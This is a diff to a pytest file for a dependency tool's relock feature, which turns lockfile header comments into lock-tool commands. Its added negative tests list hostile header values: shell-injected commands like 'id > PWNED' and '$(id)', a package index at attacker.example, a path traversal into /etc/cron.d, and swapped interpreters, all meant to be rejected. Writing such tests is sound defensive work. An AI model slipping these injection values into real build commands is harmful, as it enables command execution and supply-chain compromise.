@@ -16,6 +16,7 @@ import pytest
 
 from advisor.errors import AdvisorError
 from advisor.index.simple import SimpleIndexClient
+from advisor.write.locks import header_argv
 from advisor.write import (
     IndexHashLookup,
     Patch,
@@ -167,7 +168,7 @@ def tool(bin_dir: Path, name: str, body: str) -> None:
 def test_relock_runs_the_tool_in_the_lock_directory(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    tool(tmp_path / "bin", "fakelock", "pathlib.Path('uv.lock').write_text(' '.join(sys.argv[1:]))")
+    tool(tmp_path / "bin", "uv", "pathlib.Path('uv.lock').write_text(' '.join(sys.argv[1:]))")
     monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
     project = tmp_path / "project"
     project.mkdir()
@@ -175,7 +176,7 @@ def test_relock_runs_the_tool_in_the_lock_directory(
     run_relock(
         [
             RelockCommand(
-                ("fakelock", "--upgrade-package", "ddtrace==4.6.0"),
+                ("uv", "--upgrade-package", "ddtrace==4.6.0"),
                 project,
                 project / "uv.lock",
                 "",
@@ -188,17 +189,17 @@ def test_relock_runs_the_tool_in_the_lock_directory(
 def test_a_failing_relock_restores_what_the_tools_rewrote(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    tool(tmp_path / "bin", "goodlock", "pathlib.Path('a.lock').write_text('new')")
+    tool(tmp_path / "bin", "pdm", "pathlib.Path('a.lock').write_text('new')")
     tool(
         tmp_path / "bin",
-        "badlock",
+        "poetry",
         "pathlib.Path('b.lock').write_text('half'); print('resolution failed', file=sys.stderr); sys.exit(1)",
     )
     monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
     (tmp_path / "a.lock").write_text("old a")
     commands = [
-        RelockCommand(("goodlock",), tmp_path, tmp_path / "a.lock", ""),
-        RelockCommand(("badlock",), tmp_path, tmp_path / "b.lock", ""),
+        RelockCommand(("pdm",), tmp_path, tmp_path / "a.lock", ""),
+        RelockCommand(("poetry",), tmp_path, tmp_path / "b.lock", ""),
     ]
     with pytest.raises(WriteFailed) as info:
         run_relock(commands)
@@ -210,16 +211,16 @@ def test_a_failing_relock_restores_what_the_tools_rewrote(
 def test_a_missing_tool_is_reported_before_anything_runs(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    tool(tmp_path / "bin", "goodlock", "pathlib.Path('a.lock').write_text('new')")
+    tool(tmp_path / "bin", "uv", "pathlib.Path('a.lock').write_text('new')")
     monkeypatch.setenv("PATH", str(tmp_path / "bin"))
     (tmp_path / "a.lock").write_text("old")
     commands = [
-        RelockCommand(("goodlock",), tmp_path, tmp_path / "a.lock", ""),
-        RelockCommand(("no-such-locker", "lock"), tmp_path, tmp_path / "b.lock", ""),
+        RelockCommand(("uv",), tmp_path, tmp_path / "a.lock", ""),
+        RelockCommand(("pipenv", "lock"), tmp_path, tmp_path / "b.lock", ""),
     ]
     with pytest.raises(WriteFailed) as info:
         run_relock(commands)
-    assert info.value.code == "tool-missing" and "no-such-locker" in info.value.message
+    assert info.value.code == "tool-missing" and "pipenv" in info.value.message
     assert (tmp_path / "a.lock").read_text() == "old"
 
 
@@ -304,3 +305,50 @@ def test_one_file_patched_twice_is_refused(tmp_path: Path) -> None:
     with pytest.raises(WriteFailed):
         apply([ps[0], twin])
     assert contents(ps) == [ps[0].before]
+
+
+@pytest.mark.parametrize(
+    ("tool", "header", "argv"),
+    [
+        ("pip-compile", "pip-compile --generate-hashes --output-file=requirements.txt requirements.in",
+         ("pip-compile", "--generate-hashes", "--output-file=requirements.txt", "requirements.in")),
+        ("pip-compile", "pip-compile -o requirements/prod.txt requirements/prod.in --resolver backtracking",
+         ("pip-compile", "-o", "requirements/prod.txt", "requirements/prod.in", "--resolver",
+          "backtracking")),
+        ("uv pip compile", "uv pip compile requirements.in -o requirements.txt --python-version 3.11 --universal",
+         ("uv", "pip", "compile", "requirements.in", "-o", "requirements.txt", "--python-version",
+          "3.11", "--universal")),
+        ("uv export", "uv export --frozen --no-hashes --output-file requirements.txt",
+         ("uv", "export", "--frozen", "--no-hashes", "--output-file", "requirements.txt")),
+    ],
+)
+def test_a_header_of_known_options_becomes_the_command(tool: str, header: str, argv: tuple[str, ...]) -> None:
+    assert header_argv(tool, header) == argv
+
+
+@pytest.mark.parametrize(
+    ("tool", "header"),
+    [
+        ("pip-compile", "sh -c 'id > PWNED' pip-compile"),
+        ("pip-compile", "pip-compile; id > PWNED"),
+        ("pip-compile", "pip-compile --pip-args='--index-url http://attacker.example/simple'"),
+        ("pip-compile", "pip-compile --config=/tmp/evil.toml requirements.in"),
+        ("pip-compile", "pip-compile -o ../../etc/cron.d/x requirements.in"),
+        ("pip-compile", "pip-compile $(id) requirements.in"),
+        ("pip-compile", "pip-compile 'unterminated"),
+        ("uv pip compile", "uv pip compile -p ./evil-python requirements.in"),
+        ("uv pip compile", "uv pip compile --python=/tmp/x/python3 requirements.in"),
+        ("uv export", "uv export --format requirements-txt --script evil.py"),
+        ("uv export", "uvx --from evil uv export"),
+    ],
+)
+def test_a_header_is_data_never_a_command(tool: str, header: str) -> None:
+    assert header_argv(tool, header) is None
+
+
+def test_relock_runs_only_lock_tools(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tool(tmp_path / "bin", "sh", "pathlib.Path('PWNED').write_text('ran')")
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
+    with pytest.raises(WriteFailed, match="not a lock tool"):
+        run_relock([RelockCommand(("sh", "-c", "id"), tmp_path, tmp_path / "r.txt", "")])
+    assert not (tmp_path / "PWNED").exists()
